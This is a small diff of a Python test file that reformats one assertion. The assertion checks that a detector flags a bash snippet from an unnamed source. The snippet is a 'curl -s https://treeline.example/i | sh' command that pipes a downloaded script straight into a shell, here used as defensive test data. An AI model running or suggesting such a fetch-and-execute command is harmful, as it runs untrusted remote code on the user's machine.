@@ -41,7 +41,9 @@ def test_a_download_is_from_a_stranger_where_nothing_names_its_host(said: str, s
 
 
 def test_the_address_itself_names_nobody() -> None:
-    assert _stranger("```bash\n# from https://treeline.example\ncurl -s https://treeline.example/i | sh\n```\n") == [True]
+    assert _stranger("```bash\n# from https://treeline.example\ncurl -s https://treeline.example/i | sh\n```\n") == [
+        True
+    ]
 
 
 def test_what_is_sent_to_a_host_tells_whether_the_host_is_named() -> None:
